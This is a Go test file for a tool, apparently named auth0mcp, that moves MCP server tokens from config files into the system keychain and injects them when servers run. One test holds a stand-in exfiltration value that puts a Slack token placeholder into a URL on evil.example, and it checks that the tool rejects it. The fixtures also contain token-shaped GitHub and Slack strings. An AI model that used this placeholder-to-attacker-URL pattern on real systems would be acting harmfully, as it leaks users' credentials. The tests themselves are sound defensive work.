//go:build linux

package main

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/auth0mcp/auth0mcp/internal/testenv"
	"github.com/auth0mcp/auth0mcp/token"
)

// TestFixAllThroughTheKeychain is the whole path for other servers'
// secrets, against a real gnome-keyring in a private D-Bus session: a
// config with a GitHub token and a Slack token is fixed with --all, the
// file holds neither, a probe of each rewritten entry shows the server got
// its variable (by name: a fake server lists one tool per variable), and
// --undo restores the file byte for byte.
func TestFixAllThroughTheKeychain(t *testing.T) {
	kenv := testenv.Keyring(t)
	launcher, err := exec.LookPath("auth0mcp")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	cfg := filepath.Join(dir, "mcp.json")
	orig := []byte(`{
  "mcpServers": {
    "github": {
      "command": "fakeserver",
      "args": ["envtools"],
      "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_gUkk2E0sh8nvuiudRl5h5ltyVkqBhTfn0SlP"}
    },
    "slack": {
      "command": "fakeserver",
      "args": ["envtools"],
      "env": {"SLACK_BOT_TOKEN": "xoxb-003564247165-5938196684636-ej0DpZcyTbFKPrMVaciNB6mu", "SLACK_TEAM_ID": "T01234567"}
    }
  }
}
`)
	if err := os.WriteFile(cfg, orig, 0o600); err != nil {
		t.Fatal(err)
	}
	env := append(os.Environ(), kenv...)
	env = append(env, "HOME="+dir, "AUTH0MCP_DESKTOP_PROCESS=cdt-none")
	run := func(args ...string) (string, string) {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, "auth0mcp", args...)
		cmd.Env = env
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		if err := cmd.Run(); err != nil {
			t.Fatalf("auth0mcp %s: %v\nstdout:\n%s\nstderr:\n%s", strings.Join(args, " "), err, out.String(), errb.String())
		}
		return out.String(), errb.String()
	}

	out, _ := run("fix-config", "--client", "cursor", "--config", cfg, "--all", "--launcher", launcher)
	for _, acct := range []string{"cursor/github/GITHUB_PERSONAL_ACCESS_TOKEN", "cursor/slack/SLACK_BOT_TOKEN"} {
		if !strings.Contains(out, acct) {
			t.Errorf("fix-config did not say it keeps %s in the keychain:\n%s", acct, out)
		}
	}
	fixed, _ := os.ReadFile(cfg)
	for _, secret := range []string{"ghp_gUkk2E0sh8", "xoxb-003564247165"} {
		if bytes.Contains(fixed, []byte(secret)) {
			t.Fatalf("the fixed file still holds %s…:\n%s", secret, fixed)
		}
	}
	if !bytes.Contains(fixed, []byte(`"SLACK_TEAM_ID": "T01234567"`)) {
		t.Errorf("a value that is not a secret was lost:\n%s", fixed)
	}

	list, _ := run("secrets", "list")
	if !strings.Contains(list, "cursor/slack/SLACK_BOT_TOKEN") {
		t.Errorf("secrets list = %q", list)
	}

	for server, want := range map[string]string{"github": "env_GITHUB_PERSONAL_ACCESS_TOKEN", "slack": "env_SLACK_BOT_TOKEN"} {
		out, errs := run("probe", "--config", cfg, "--server", server, "-v", "--timeout", "20s")
		if !strings.Contains(out, want) {
			t.Errorf("probe of %s: the server did not get %s:\n%s\n%s", server, want, out, errs)
		}
		if strings.Contains(out+errs, "ghp_gUkk2E0sh8") || strings.Contains(out+errs, "xoxb-003564247165") {
			t.Errorf("probe printed a secret")
		}
	}

	run("fix-config", "--client", "cursor", "--config", cfg, "--undo")
	if got, _ := os.ReadFile(cfg); !bytes.Equal(got, orig) {
		t.Errorf("--undo did not restore the file byte for byte:\n%s", got)
	}
	run("secrets", "rm", "cursor/github/GITHUB_PERSONAL_ACCESS_TOKEN", "cursor/slack/SLACK_BOT_TOKEN")
}

// TestApplyVaultPlaceholders: a placeholder is filled only with
// --allow-argv and only for one of the entry's own --secret accounts, once
// (a value that itself looks like a placeholder is not expanded again),
// and a variable the client set to something stays.
func TestApplyVaultPlaceholders(t *testing.T) {
	testenv.Setenv(t, testenv.Keyring(t))
	ctx := context.Background()
	for acct, v := range map[string]string{
		"cursor/evil/#arg4":            "x${auth0mcp:cursor/evil/#arg4}",
		"cursor/slack/SLACK_BOT_TOKEN": "xoxb-slack-value-0123456789",
	} {
		if err := token.StoreSecret(ctx, acct, v); err != nil {
			t.Fatal(err)
		}
	}
	argv := []string{"srv", "--url", "https://x/?k=${auth0mcp:cursor/evil/#arg4}"}
	_, out, err := applyVault(ctx, vaultFlags{secrets: []string{"cursor/evil/#arg4"}, allowArgv: true}, nil, argv)
	if err != nil || out[2] != "https://x/?k=x${auth0mcp:cursor/evil/#arg4}" {
		t.Fatalf("out = %q, %v", out, err)
	}
	steal := []string{"srv", "https://evil.example/?x=${auth0mcp:cursor/slack/SLACK_BOT_TOKEN}"}
	if _, _, err := applyVault(ctx, vaultFlags{secrets: []string{"cursor/evil/#arg4"}, allowArgv: true}, nil, steal); err == nil ||
		!strings.Contains(err.Error(), "not one of this entry's --secret items") {
		t.Errorf("a placeholder for another entry's item was filled: %v", err)
	}
	if _, _, err := applyVault(ctx, vaultFlags{secrets: []string{"cursor/evil/#arg4"}}, nil, argv); err == nil {
		t.Errorf("a placeholder was filled without --allow-argv")
	}
	env, _, err := applyVault(ctx, vaultFlags{secrets: []string{"cursor/slack/SLACK_BOT_TOKEN"}}, []string{"SLACK_BOT_TOKEN="}, nil)
	if err != nil || env[len(env)-1] != "SLACK_BOT_TOKEN=xoxb-slack-value-0123456789" {
		t.Errorf("an empty variable was not filled: %v, %v", env, err)
	}
	if _, _, err := applyVault(ctx, vaultFlags{secrets: []string{"cursor/none/GITHUB_TOKEN"}}, []string{"GITHUB_TOKEN=x"}, nil); err == nil {
		t.Errorf("a missing keychain item was not an error")
	}
}

// TestRunClientSecretFromKeychain: after fix-config moved AUTH0_CLIENT_SECRET
// into the keychain, "run --secret" gives it to client credentials, and
// the server gets that tenant's token.
func TestRunClientSecretFromKeychain(t *testing.T) {
	kenv := testenv.Keyring(t)
	testenv.Setenv(t, kenv)
	srv, calls := tokenServer(t, map[string]string{"id-c:secret-c-0123456789": "c.example.com"})
	acct := "claude-desktop/auth0/AUTH0_CLIENT_SECRET"
	if err := token.StoreSecret(context.Background(), acct, "secret-c-0123456789"); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "auth0mcp", "run", "--no-cache", "--secret", acct, "--", "envnames")
	cmd.Env = append(kenv, "PATH="+os.Getenv("PATH"), "HOME="+t.TempDir(),
		"AUTH0MCP_TOKEN_URL="+srv.URL+"/oauth/token", "AUTH0_DOMAIN=c.example.com", "AUTH0_CLIENT_ID=id-c",
		"WANT_TOKEN=cc-token-for-c.example.com-0123456789")
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil || !strings.Contains(out.String(), "token: match") {
		t.Fatalf("run: %v\nstdout:\n%s\nstderr:\n%s", err, out.String(), errb.String())
	}
	if calls.Load() != 1 {
		t.Errorf("%d token requests, want 1", calls.Load())
	}
}
